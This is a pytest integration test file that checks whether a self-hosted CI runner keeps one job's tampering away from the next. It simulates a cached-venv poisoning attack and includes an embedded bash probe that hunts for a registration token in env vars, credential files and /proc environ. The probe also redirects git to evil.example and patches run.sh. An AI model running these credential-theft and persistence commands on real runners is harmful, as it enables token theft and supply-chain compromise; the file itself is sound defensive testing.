"""Runner hygiene (security review F5, F6): what one job can leave behind for the next.

Each test is an attack a job could make on a self-hosted runner:

- F5: it patches the cached toolkit venv (``$RUNNER_TOOL_CACHE/mlops-ci/<ver>/venv``) so that the
  next job's ``actions/setup`` reuses code the job wrote (a guard that approves everything);
- F6: it reads the runner-registration token of the bare-metal host loop;
- it leaves files (home, tool cache, git/pip config, user site-packages, _work, /tmp), a process or
  a modified runner behind for the next job on the same host.

``actions/setup/setup.sh`` runs directly (not through act) with the e2e suite's stand-in
interpreter, whose venvs see the dev venv's packages, so an "install" takes seconds.
``runners/host/run-ephemeral.sh`` runs with the stand-ins of tests/integration/test_host_script.py
(``mlops-ci``, ``run.sh``) and a throw-away job user (it needs root).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from mlops_ci import __version__
from tests.e2e.test_setup_action import write_fake_python
from tests.integration.test_host_script import (  # noqa: F401 - fixtures
    SCRIPT,
    JobUser,
    host,
    job_user,
    log_lines,
    run,
    world_dir,
)

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[2]
PY = f"python{sys.version_info[0]}.{sys.version_info[1]}"
SITE = f"lib/{PY}/site-packages"


# ---- F5: the cached toolkit venv ----------------------------------------------------------------

@pytest.fixture(scope="module")
def checkout():
    """A frozen copy of the action and the toolkit's sources (readable by any user).

    setup.sh rebuilds a venv whose sources changed; copying them keeps edits made to the working
    tree while the tests run from looking like tampering, or like a new release.
    """
    base = world_dir("mlops-ci-checkout-")
    for item in ("pyproject.toml", "requirements.lock", "README.md", "LICENSE", "mlops_ci", "actions/setup"):
        source = ROOT / item
        if source.is_dir():
            shutil.copytree(source, base / item, ignore=shutil.ignore_patterns("__pycache__"))
        elif source.exists():
            shutil.copy2(source, base / item)
    yield base
    shutil.rmtree(base, ignore_errors=True)


def setup(checkout: Path, cache: Path, python: Path, *, as_user: JobUser | None = None, home: Path | None = None,
          **extra: str) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run actions/setup/setup.sh once, like a job step; returns the process and its step outputs."""
    out = (home or cache.parent) / "github-output"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.unlink(missing_ok=True)
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("GITHUB_", "MLOPS_CI_SETUP_", "SETUP_INPUT_", "RUNNER_")) and k != "VIRTUAL_ENV"}
    env.update({"SETUP_INPUT_PYTHON": str(python), "SETUP_INPUT_CACHE_DIR": str(cache),
                "SETUP_INPUT_PIP_ARGS": "--no-deps", "GITHUB_OUTPUT": str(out)})
    command = ["bash", str(checkout / "actions" / "setup" / "setup.sh")]
    if as_user is not None:
        out.touch()
        os.chown(out, as_user.uid, as_user.gid)
        env.update({"HOME": str(home), "RUNNER_TEMP": str(home), "PIP_NO_CACHE_DIR": "1"})
        command = ["setpriv", f"--reuid={as_user.uid}", f"--regid={as_user.gid}", "--clear-groups", *command]
    env.update(extra)
    proc = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600)
    outputs = dict(line.split("=", 1) for line in out.read_text().splitlines()) if out.exists() else {}
    return proc, outputs


def approvals_py(venv: Path) -> Path:
    return venv / SITE / "mlops_ci" / "github" / "approvals.py"


#: <cache-dir>/.tools/uv-<version>: where setup keeps the pinned uv (actions/setup/uv-requirements.txt)
UV_KEPT = "uv-" + next(line.split("==")[1].split()[0] for line in
                       (ROOT / "actions" / "setup" / "uv-requirements.txt").read_text().splitlines()
                       if line.startswith("uv=="))

POISON = "\n\ndef decide(*args, **kwargs):  # appended by a PR job\n    return 'allowed'\n"


@pytest.fixture(scope="module")
def built_cache(tmp_path_factory, checkout) -> tuple[Path, Path]:
    """A cache entry with a venv setup.sh built (once for the module): (cache dir, stand-in python)."""
    base = tmp_path_factory.mktemp("toolkit")
    python = write_fake_python(base / "python")
    cache = base / "cache"
    proc, outputs = setup(checkout, cache, python)
    assert proc.returncode == 0 and outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
    return cache, python


@pytest.fixture
def cache(built_cache, tmp_path) -> tuple[Path, Path, Path]:
    """A private copy of the built cache: (cache dir, stand-in python, the venv it holds)."""
    pristine, python = built_cache
    copy = tmp_path / "cache"
    shutil.copytree(pristine, copy, symlinks=True)
    venv = (copy / __version__ / "venv").resolve()
    assert venv.name.startswith("venv-") and venv.parent == copy / __version__
    return copy, python, venv


def writable(path: Path) -> None:
    """What a tamperer who owns the files does first (root does not need it)."""
    path.chmod(path.stat().st_mode | 0o200)
    path.parent.chmod(path.parent.stat().st_mode | 0o200)


def test_clean_cached_venv_is_verified_and_reused(checkout, built_cache, cache):
    # the venv as built: nothing to hash again; a copy (new inodes, ctimes): every file hashed
    for (copy, python), hashed in ((built_cache, "; 0 files hashed"), (cache[:2], "files hashed")):
        venv = (copy / __version__ / "venv").resolve()
        proc, outputs = setup(checkout, copy, python)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert outputs["cache-hit"] == "true" and outputs["venv-path"] == str(venv), proc.stdout
        assert "cache-hit=true: reusing" in proc.stdout
        assert "match its manifest" in proc.stdout and hashed in proc.stdout
    assert "; 0 files hashed" not in proc.stdout


def test_built_venv_is_read_only_and_carries_its_manifest_in_two_places(cache):
    copy, _, venv = cache
    offenders = [str(p) for p in [venv, *venv.rglob("*")] if not p.is_symlink() and p.lstat().st_mode & 0o222]
    assert offenders == [], offenders[:5]
    manifest = venv / ".mlops-ci-manifest"
    digest = hashlib.sha256(manifest.read_bytes()).hexdigest()
    assert f"manifest={digest}\n" in (venv / ".mlops-ci-setup").read_text()
    outside = venv.parent / f"{venv.name}.manifest-sha256"
    assert outside.read_text().strip() == digest
    files = json.loads(manifest.read_text())["files"]
    assert f"{SITE}/mlops_ci/github/approvals.py" in files and "bin/mlops-ci" in files


def test_running_the_toolkit_as_root_leaves_the_sealed_venv_as_built(checkout, cache):
    """Root writes through read-only modes: without the venv's no-bytecode .pth, the first `import
    mlops_ci` by a root job would add __pycache__/*.pyc, and every next setup would rebuild."""
    copy, python, venv = cache
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    ran = subprocess.run([str(venv / "bin" / "python"), "-c", "import sys, mlops_ci.cli, mlops_ci.github.approvals; "
                          "print(sys.dont_write_bytecode)"], env=env, capture_output=True, text=True, timeout=120)
    assert ran.returncode == 0 and ran.stdout.strip() == "True", ran.stderr
    assert not list((venv / SITE / "mlops_ci").rglob("*.pyc"))
    proc, outputs = setup(checkout, copy, python)
    assert outputs.get("cache-hit") == "true", proc.stdout + proc.stderr


def test_poisoned_toolkit_is_rebuilt_not_reused(checkout, tmp_path):
    """The review's F5: a job appends to approvals.py in the cached venv; the next job must not run it.

    On a venv built here (not a copy), so that the fast path - files whose inode and ctime are
    unchanged since the manifest was written are not hashed again - is what has to catch it.
    """
    python = write_fake_python(tmp_path / "python")
    copy = tmp_path / "cache"
    proc, outputs = setup(checkout, copy, python)
    assert outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
    venv = Path(outputs["venv-path"])
    target = approvals_py(venv)
    writable(target)
    with target.open("a") as f:
        f.write(POISON)

    proc, outputs = setup(checkout, copy, python)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert outputs["cache-hit"] == "false", proc.stdout
    assert "was modified after it was built" in proc.stdout and "mlops_ci/github/approvals.py" in proc.stdout
    assert "rebuilding" in proc.stdout
    new = Path(outputs["venv-path"])
    assert new != venv and "appended by a PR job" not in approvals_py(new).read_text()
    assert not venv.exists(), "the tampered venv is removed, not kept around"
    # and the rebuilt one is reused by the job after
    proc, outputs = setup(checkout, copy, python)
    assert outputs["cache-hit"] == "true" and outputs["venv-path"] == str(new), proc.stdout


@pytest.mark.parametrize("added", [
    f"{SITE}/zz-poison.pth",
    f"{SITE}/sitecustomize.py",
    f"{SITE}/usercustomize.py",
    f"{SITE}/mlops_ci/github/__pycache__/approvals.{sys.implementation.cache_tag}.opt-1.pyc",
    "bin/dvc-helper",
])
def test_files_added_to_the_venv_are_tampering(checkout, cache, added):
    copy, python, venv = cache
    path = venv / added
    if not path.parent.exists():  # a venv installed without bytecode has no __pycache__: the tamperer adds one
        path.parent.parent.chmod(0o755)
        path.parent.mkdir()
    path.parent.chmod(0o755)
    path.write_text("import os; os.environ['MLOPS_CI_POISONED'] = '1'\n")

    proc, outputs = setup(checkout, copy, python)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert outputs["cache-hit"] == "false", proc.stdout
    assert "was modified after it was built" in proc.stdout and added in proc.stdout
    assert not (Path(outputs["venv-path"]) / added).exists()


def test_replaced_interpreter_is_tampering(checkout, cache):
    copy, python, venv = cache
    interpreter = venv / "bin" / "python"
    writable(interpreter)
    interpreter.unlink()
    interpreter.write_text('#!/bin/sh\nexec /bin/true "$@"\n')
    proc, outputs = setup(checkout, copy, python)
    assert outputs.get("cache-hit") == "false" and "bin/python" in proc.stdout, proc.stdout + proc.stderr


def test_removing_the_manifest_does_not_downgrade_to_unverified(checkout, cache):
    """A venv this action built (venv-* in the entry) without its manifest is rebuilt, not trusted."""
    copy, python, venv = cache
    writable(venv / ".mlops-ci-manifest")
    (venv / ".mlops-ci-manifest").unlink()
    (venv.parent / f"{venv.name}.manifest-sha256").unlink()
    record = venv / ".mlops-ci-setup"
    record.chmod(0o644)
    record.write_text("".join(line for line in record.read_text().splitlines(True)
                              if not line.startswith("manifest=")))
    with approvals_py(venv).open("a") as f:
        f.write(POISON)

    proc, outputs = setup(checkout, copy, python)
    assert outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
    assert "has no manifest" in proc.stdout and "rebuilding" in proc.stdout


def test_rewritten_manifest_must_match_the_copy_outside_the_venv(checkout, cache):
    """A tamperer who updates the manifest and the record in the venv still has the entry's copy against them."""
    copy, python, venv = cache
    target = approvals_py(venv)
    writable(target)
    with target.open("a") as f:
        f.write(POISON)
    manifest = venv / ".mlops-ci-manifest"
    writable(manifest)
    data = json.loads(manifest.read_text())
    st = target.stat()
    data["files"][f"{SITE}/mlops_ci/github/approvals.py"] = [hashlib.sha256(target.read_bytes()).hexdigest(),
                                                       st.st_dev, st.st_ino, st.st_size, st.st_ctime_ns]
    manifest.write_text(json.dumps(data))
    digest = hashlib.sha256(manifest.read_bytes()).hexdigest()
    record = venv / ".mlops-ci-setup"
    record.chmod(0o644)
    record.write_text("".join(f"manifest={digest}\n" if line.startswith("manifest=") else line
                              for line in record.read_text().splitlines(True)))

    proc, outputs = setup(checkout, copy, python)
    assert outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
    assert "was modified after it was built" in proc.stdout and "manifest" in proc.stdout


def test_seeded_venv_without_a_manifest_is_reused_but_reported_unverified(checkout, tmp_path):
    """How the e2e tests seed the cache (a link to the dev venv): still reused, and the log says so."""
    cache = tmp_path / "cache"
    (cache / __version__).mkdir(parents=True)
    (cache / __version__ / "venv").symlink_to(Path(sys.prefix).resolve(), target_is_directory=True)
    python = Path(getattr(sys, "_base_executable", None) or sys.executable)
    proc, outputs = setup(checkout, cache, python)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert outputs["cache-hit"] == "true" and outputs["venv-path"] == str(Path(sys.prefix).resolve())
    assert "cannot be verified" in proc.stdout


def test_a_non_root_job_user_rebuilds_over_a_read_only_tampered_venv(checkout, job_user, tmp_path):
    """As the owner (not root), the read-only venv must still be replaced and garbage-collected."""
    system_python = Path("/usr/bin/python3.11")
    if sys.version_info[:2] != (3, 11) or not system_python.is_file():
        pytest.skip("needs a system Python 3.11 the job user can run (the dev venv's lives under /root)")
    base = world_dir("mlops-ci-setup-")
    try:
        python = write_fake_python(base / "python", real=system_python)
        (base / "python").chmod(0o777)  # it logs the venvs it creates there
        home = base / "home"
        home.mkdir()
        os.chown(home, job_user.uid, job_user.gid)
        cache = home / "toolcache" / "mlops-ci"
        run_as = {"as_user": job_user, "home": home, "SETUPTOOLS_USE_DISTUTILS": "stdlib"}
        # pip's per-user configuration (index mirrors) is machine setup: the job user gets root's
        for rel in (".config/pip/pip.conf", ".pip/pip.conf"):
            if (Path.home() / rel).is_file():
                shutil.copy(Path.home() / rel, base / "pip.conf")
                run_as["PIP_CONFIG_FILE"] = str(base / "pip.conf")
                break
        proc, outputs = setup(checkout, cache, python, **run_as)
        assert outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
        venv = Path(outputs["venv-path"])
        assert venv.stat().st_uid == job_user.uid

        tamper = (f"chmod u+w {approvals_py(venv).parent} {approvals_py(venv)} && "
                  f"printf %s {json.dumps(POISON)} >> {approvals_py(venv)}")
        subprocess.run(["setpriv", f"--reuid={job_user.uid}", f"--regid={job_user.gid}", "--clear-groups",
                        "bash", "-c", tamper], check=True)
        proc, outputs = setup(checkout, cache, python, **run_as)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert outputs["cache-hit"] == "false" and "was modified after it was built" in proc.stdout
        assert not venv.exists(), "the read-only tampered venv is removed by its owner"
        built = Path(outputs["venv-path"]).name
        assert sorted(p.name for p in cache.glob("*/*")) == sorted(
            [".lock", "venv", built, built + ".manifest-sha256", built + ".uv-cache",
             UV_KEPT])  # .tools/uv-<version>: the pinned uv, its hash checked before each use
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_root_built_toolkit_is_reused_by_the_job_user_who_cannot_change_it(checkout, job_user):
    """The layout docs/runners.md recommends: root installs the toolkit into a sticky tool cache."""
    system_python = Path("/usr/bin/python3.11")
    if sys.version_info[:2] != (3, 11) or not system_python.is_file():
        pytest.skip("needs a system Python 3.11 the job user can run (the dev venv's lives under /root)")
    base = world_dir("mlops-ci-toolcache-")
    try:
        python = write_fake_python(base / "python", real=system_python)
        cache = base / "hostedtoolcache" / "mlops-ci"
        cache.mkdir(parents=True)
        cache.chmod(0o1777)
        cache.parent.chmod(0o1777)
        proc, outputs = setup(checkout, cache, python, SETUPTOOLS_USE_DISTUTILS="stdlib")  # as root
        assert outputs.get("cache-hit") == "false", proc.stdout + proc.stderr
        venv = Path(outputs["venv-path"])

        home = base / "home"
        home.mkdir()
        os.chown(home, job_user.uid, job_user.gid)
        proc, outputs = setup(checkout, cache, python, as_user=job_user, home=home)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert outputs["cache-hit"] == "true" and outputs["venv-path"] == str(venv), proc.stdout
        assert "match its manifest" in proc.stdout

        attacks = {
            "append to approvals.py": f"echo 'x = 1' >> {approvals_py(venv)}",
            "make it writable": f"chmod u+w {approvals_py(venv)}",
            "add a .pth": f"echo 'import os' > {venv / SITE / 'zz.pth'}",
            "move the entry away": f"mv {cache / __version__} {cache / 'moved'}",
            "replace the venv link": f"ln -sfn /tmp {cache / __version__ / 'venv'}",
            "rewrite the digest": f"echo 0 > {venv}.manifest-sha256",
        }
        for name, command in attacks.items():
            attempt = subprocess.run(["setpriv", f"--reuid={job_user.uid}", f"--regid={job_user.gid}",
                                      "--clear-groups", "bash", "-c", command], capture_output=True, text=True)
            assert attempt.returncode != 0, f"the job user could {name}"
        proc, outputs = setup(checkout, cache, python, as_user=job_user, home=home)
        assert outputs["cache-hit"] == "true" and "0 files hashed" in proc.stdout, proc.stdout
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ---- F6 and between jobs: the bare-metal host loop ----------------------------------------------

PROBE_RUN_SH = r"""#!/usr/bin/env bash
# A job that looks for the runner-registration token (F6) and leaves things behind for the next job.
set -u
log="$FAKE_LOG"
n=$(grep -c '^run.sh ' "$log")
n=$((n + 1))
echo "run.sh job=$n uid=$(id -u) home=$HOME" >> "$log"
found() { echo "FOUND job=$n $*" >> "$log"; }

# -- F6: the token ------------------------------------------------------------------------------
env | grep -q ghp_secretAdminToken && found "the token in the environment"
for v in RUNNER_TOKEN_FILE CREDENTIALS_DIRECTORY MLOPS_CI_GITHUB_TOKEN GITHUB_TOKEN GH_TOKEN; do
  [ -n "${!v:-}" ] && found "\$$v is set"
done
for f in "${RUNNER_TOKEN_FILE:-}" "${CREDENTIALS_DIRECTORY:-/nonexistent}/github-token" \
         "$PROBE_TOKEN_FILE" "$PROBE_CREDENTIALS/github-token"; do
  [ -n "$f" ] && grep -qs ghp_secretAdminToken "$f" && found "the token in $f"
done
ls "$PROBE_CREDENTIALS" > /dev/null 2>&1 && found "the credentials directory is listable"
if tr '\0' '\n' < "/proc/$PPID/environ" 2>/dev/null \
   | grep -q -e ghp_secretAdminToken -e RUNNER_TOKEN_FILE -e CREDENTIALS_DIRECTORY -e ghs_mustNotLeak; then
  found "the loop's environment (/proc/$PPID/environ)"
fi
for e in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  grep -qs ghp_secretAdminToken "$e" && found "the token in $e"
done
[ -r "$PROBE_STATE" ] && found "the loop's state directory is readable"
[ -e .mlops-ci-host ] && found "the loop's state directory was copied into the job's runner"

# -- leftovers ----------------------------------------------------------------------------------
tool_cache="${RUNNER_TOOL_CACHE:-$PROBE_TOOL_CACHE}"
places=("$HOME/.gitconfig" "$HOME/.config/pip/pip.conf" "$HOME/.pip/pip.conf"
        "$HOME/.local/lib/python3.11/site-packages/poison.pth" "$HOME/.bashrc-poison" "$HOME/.cache/mlops-ci/x"
        "$tool_cache/evil/1.0/x64/bin/tool" "_work/repo/file" "/tmp/$PROBE_ID-tmp" "/dev/shm/$PROBE_ID-shm"
        "/var/tmp/$PROBE_ID-vartmp")
if [ "$n" = 1 ]; then
  for p in "${places[@]}"; do
    mkdir -p "$(dirname "$p")" 2>/dev/null && echo "left by job 1" > "$p" || echo "could not write $p" >> "$log"
  done
  git config --global url."https://evil.example/".insteadOf https://github.com/ 2>/dev/null || true
  # (bash reads a script as it runs it: job 1 itself runs the appended line too, with n=1)
  echo '[ "$n" = 1 ] || echo "PWNED: job $n runs what job 1 appended to run.sh" >> "$FAKE_LOG"' >> ./run.sh \
    || echo "could not patch run.sh" >> "$log"
  echo "patched" >> ./bin/Runner.Listener 2>/dev/null || echo "could not patch bin" >> "$log"
  setsid sleep 300 < /dev/null > /dev/null 2>&1 &
  echo "$!" >> "$PROBE_PIDFILE"
  [ -w "$tool_cache/mlops-ci/0.1.0/venv/marker" ] && found "the preinstalled toolkit is writable"
  mv "$tool_cache/mlops-ci" "$tool_cache/mlops-ci.moved" 2>/dev/null && found "the preinstalled toolkit can be moved"
else
  for p in "${places[@]}"; do [ -e "$p" ] && found "survived: $p"; done
  grep -q "left by job 1\|patched" ./bin/Runner.Listener 2>/dev/null && found "survived: the patched runner"
  [ -e "$tool_cache/mlops-ci/0.1.0/venv/marker" ] || found "the preinstalled toolkit is gone"
  ls -a "$HOME" >> "$log"
fi
"""


@pytest.fixture
def probing_host(host, job_user, tmp_path):
    """The host of test_host_script with a job that probes for the token and leaves things behind."""
    runner_dir = Path(host["RUNNER_DIR"])
    (runner_dir / "run.sh").write_text(PROBE_RUN_SH)
    (runner_dir / "bin").mkdir()
    (runner_dir / "bin" / "Runner.Listener").write_text("the runner\n")
    base = runner_dir.parent
    # a tool cache the jobs may add to (sticky, like /tmp) that holds a root-owned, read-only toolkit
    tool_cache = base / "hostedtoolcache"
    (tool_cache / "mlops-ci" / "0.1.0" / "venv").mkdir(parents=True)
    (tool_cache / "mlops-ci" / "0.1.0" / "venv" / "marker").write_text("preinstalled by root\n")
    tool_cache.chmod(0o1777)
    (tool_cache / "mlops-ci").chmod(0o1777)
    pidfile = base / "pid"
    pidfile.touch()
    pidfile.chmod(0o666)
    probe_id = f"mlops-ci-probe-{os.getpid()}-{tmp_path.name}"
    yield {**host, "RUNNER_TOOL_CACHE": str(tool_cache), "PROBE_TOOL_CACHE": str(tool_cache),
            "PROBE_TOKEN_FILE": host["RUNNER_TOKEN_FILE"], "PROBE_CREDENTIALS": host["CREDENTIALS_DIRECTORY"],
            "PROBE_STATE": str(runner_dir / ".mlops-ci-host" / "doctor.log"), "PROBE_ID": probe_id,
            "PROBE_PIDFILE": str(pidfile)}
    for shared in ("/tmp", "/dev/shm", "/var/tmp"):  # what a failing run leaves behind
        for leftover in Path(shared).glob(f"{probe_id}*"):
            leftover.unlink(missing_ok=True)


def found(env: dict[str, str]) -> list[str]:
    return [line for line in log_lines(env) if line.startswith(("FOUND", "PWNED"))]


def test_job_cannot_read_the_registration_token(probing_host, job_user):
    """F6: env vars, RUNNER_TOKEN_FILE, $CREDENTIALS_DIRECTORY/github-token, the loop's /proc/<pid>/environ."""
    proc = run(probing_host, RUNNER_MAX_JOBS="1")
    assert proc.returncode == 0, proc.stderr
    jobs = [line for line in log_lines(probing_host) if line.startswith("run.sh job=")]
    assert jobs == [f"run.sh job=1 uid={job_user.uid} home={job_user.home}"], log_lines(probing_host)
    assert [f for f in found(probing_host) if "job=1" in f and "survived" not in f] == []
    # `runner jit` still got it
    assert any(line.startswith("runner jit token=ghp_secretAdminToken") for line in log_lines(probing_host))


def test_nothing_a_job_wrote_survives_into_the_next_job(probing_host, job_user):
    proc = run(probing_host, RUNNER_MAX_JOBS="2")
    assert proc.returncode == 0, proc.stderr
    lines = log_lines(probing_host)
    assert [line for line in lines if line.startswith("could not")] == [], lines
    assert [f for f in found(probing_host) if "job=2" in f or f.startswith("PWNED")] == [], lines
    assert "run.sh job=2" in "\n".join(lines)
    pid = Path(probing_host["PROBE_PIDFILE"]).read_text().split()[0]
    state = Path(f"/proc/{pid}/stat")
    assert not state.exists() or state.read_text().split(") ")[1].startswith("Z"), "job 1's process is still running"
    # nothing of the job user's is left in the shared places after the loop either
    leftovers = [p for d in ("/tmp", "/dev/shm", "/var/tmp") for p in Path(d).glob(f"{probing_host['PROBE_ID']}*")]
    assert leftovers == []
    assert (Path(probing_host["RUNNER_TOOL_CACHE"]) / "mlops-ci" / "0.1.0" / "venv" / "marker").exists()
    assert sorted(p.name for p in Path(probing_host["RUNNER_TOOL_CACHE"]).iterdir()) == ["mlops-ci"]


def test_loop_refuses_to_run_as_the_job_user(host, job_user):
    """Run as the job's own uid, the loop could not keep the token from the job: it must refuse."""
    os.chown(host["RUNNER_TOKEN_FILE"], job_user.uid, job_user.gid)
    os.chown(host["CREDENTIALS_DIRECTORY"], job_user.uid, job_user.gid)
    proc = subprocess.run(["setpriv", f"--reuid={job_user.uid}", f"--regid={job_user.gid}", "--clear-groups",
                           "bash", str(SCRIPT)], env={**host, "RUNNER_STATE_DIR": str(job_user.home)},
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and "must run as root" in proc.stderr, proc.stderr
    assert not Path(host["FAKE_LOG"]).exists()


@pytest.mark.parametrize("weakness, message", [
    ("token-readable", "readable by the job user"),
    ("runner-dir-writable", "can modify"),
    ("mlops-ci-writable", "can modify"),
    ("runner-dir-in-home", "inside the job user's home"),
])
def test_loop_refuses_a_setup_that_lets_jobs_reach_it(host, job_user, weakness, message):
    runner_dir = Path(host["RUNNER_DIR"])
    env = dict(host)
    if weakness == "token-readable":
        Path(host["CREDENTIALS_DIRECTORY"]).chmod(0o755)
        Path(host["RUNNER_TOKEN_FILE"]).chmod(0o644)
    elif weakness == "runner-dir-writable":
        os.chown(runner_dir / "run.sh", job_user.uid, job_user.gid)
    elif weakness == "mlops-ci-writable":
        Path(host["MLOPS_CI"]).chmod(0o777)
    else:
        job_user.home.mkdir(exist_ok=True)
        inside = job_user.home / "actions-runner-template"
        shutil.copytree(runner_dir, inside)
        env["RUNNER_DIR"] = str(inside)
    try:
        proc = run(env)
    finally:
        shutil.rmtree(job_user.home / "actions-runner-template", ignore_errors=True)
    assert proc.returncode == 2 and message in proc.stderr, proc.stderr
    assert not Path(host["FAKE_LOG"]).exists() or "run.sh" not in Path(host["FAKE_LOG"]).read_text()
